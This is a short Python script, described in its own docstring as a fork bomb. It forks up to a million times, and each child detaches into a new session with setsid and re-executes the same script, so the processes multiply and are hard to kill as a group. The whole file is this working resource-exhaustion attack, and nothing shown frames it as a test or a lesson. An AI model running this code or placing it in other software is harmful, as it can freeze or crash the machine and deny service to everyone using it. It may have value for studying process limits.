"""A fork bomb whose every process leaves its group and its session and becomes a new program."""

import os
import sys

for _ in range(1_000_000):
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, *sys.argv])
    except OSError:
        pass
